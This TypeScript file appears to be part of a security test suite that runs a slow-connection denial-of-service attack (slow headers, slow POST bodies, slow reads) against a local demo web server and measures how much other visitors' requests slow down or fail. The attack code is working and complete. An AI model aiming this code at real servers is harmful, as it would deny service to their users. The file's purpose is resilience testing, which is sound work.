import net from "node:net";
import type { DemoHouse } from "./demo-house.ts";
import { Visitor } from "./visitor.ts";

const WATCH_MS = 40_000;
const ARRIVE_MS = 15_000;

/** G16: a thousand connections that send their head, their body or read their answer as slowly as they can. */
export async function attackBySlowness(house: DemoHouse, connections: number): Promise<{ found: string[] }> {
  const alone = await watch(house, WATCH_MS / 2);
  process.stdout.write(`alone: ${said(alone)}\n`);
  const { port } = new URL(house.origin);
  const largeFile = await findLargeFile(house);
  const sockets = new Set<net.Socket>();
  let opened = 0;
  let cut = 0;
  const open = (kind: number) => {
    const socket = net.connect(Number(port), "127.0.0.1");
    sockets.add(socket);
    const host = `Host: localhost:${port}\r\n`;
    socket.on("connect", () => {
      opened += 1;
      if (kind === 0) socket.write(`GET / HTTP/1.1\r\n${host}`);
      else if (kind === 1)
        socket.write(
          `POST /dang-nhap HTTP/1.1\r\n${host}Origin: ${house.origin}\r\nSec-Fetch-Site: same-origin\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 200000\r\n\r\nname=`,
        );
      else {
        socket.pause();
        socket.write(`GET ${largeFile} HTTP/1.1\r\n${host}\r\n`.repeat(4));
      }
    });
    socket.on("error", () => {});
    socket.on("close", () => {
      cut += 1;
      sockets.delete(socket);
    });
    const drip = setInterval(() => {
      if (socket.destroyed) clearInterval(drip);
      else if (kind === 0) socket.write("X-A: b\r\n");
      else if (kind === 1) socket.write("a");
    }, 3_000);
  };
  // Not all in one moment: that would be a flood, which is another attack.
  for (let index = 0; index < connections; index++) {
    open(index % 3);
    await new Promise((resolve) => setTimeout(resolve, ARRIVE_MS / connections));
  }
  const besieged = await watch(house, WATCH_MS);
  process.stdout.write(
    `with ${connections} slow connections (${opened} opened, ${cut} cut by the house by the end): ${said(besieged)}\n`,
  );
  for (const socket of sockets) socket.destroy();
  const found: string[] = [];
  if (opened < connections) found.push(`only ${opened} of ${connections} slow connections were opened`);
  if (besieged.failed > 0) found.push(`${besieged.failed} requests of others failed under slow connections`);
  // A machine that is slow alone is measured against itself.
  if (besieged.p95Ms > Math.max(1_000, 1.5 * alone.p95Ms))
    found.push(
      `others waited ${Math.round(besieged.p95Ms)} ms (p95), ${Math.round(alone.p95Ms)} ms without the slow ones`,
    );
  return { found };
}

/** More than the buffers of a connection hold, four times over. */
async function findLargeFile(house: DemoHouse): Promise<string> {
  const visitor = new Visitor(house.origin, "somebody slow");
  const page = await visitor.get("/dang-nhap");
  let largest = { path: "/", bytes: 0 };
  for (const [path] of new Set(page.text.match(/\/assets\/[\w-]+\.js/g) ?? []).entries()) {
    const bytes = (await visitor.get(path)).text.length;
    if (bytes > largest.bytes) largest = { path, bytes };
  }
  visitor.close();
  return largest.path;
}

interface Watched {
  readonly p50Ms: number;
  readonly p95Ms: number;
  readonly answers: number;
  readonly failed: number;
}

function said({ p50Ms, p95Ms, answers, failed }: Watched): string {
  return `${answers} answers to others, p50 ${Math.round(p50Ms)} ms, p95 ${Math.round(p95Ms)} ms, ${failed} failed`;
}

/** Somebody honest opens pages, one after the other. */
async function watch(house: DemoHouse, forMs: number): Promise<Watched> {
  const visitor = new Visitor(house.origin, "somebody honest");
  const until = performance.now() + forMs;
  const times: number[] = [];
  let failed = 0;
  while (performance.now() < until) {
    try {
      const { status, ms } = await visitor.get("/dang-nhap");
      if (status === 200) times.push(ms);
      else failed += 1;
    } catch {
      failed += 1;
    }
    await new Promise((resolve) => setTimeout(resolve, 50));
  }
  visitor.close();
  times.sort((a, b) => a - b);
  const at = (share: number) => times[Math.min(times.length - 1, Math.floor(times.length * share))] ?? 0;
  return { p50Ms: at(0.5), p95Ms: at(0.95), answers: times.length, failed };
}
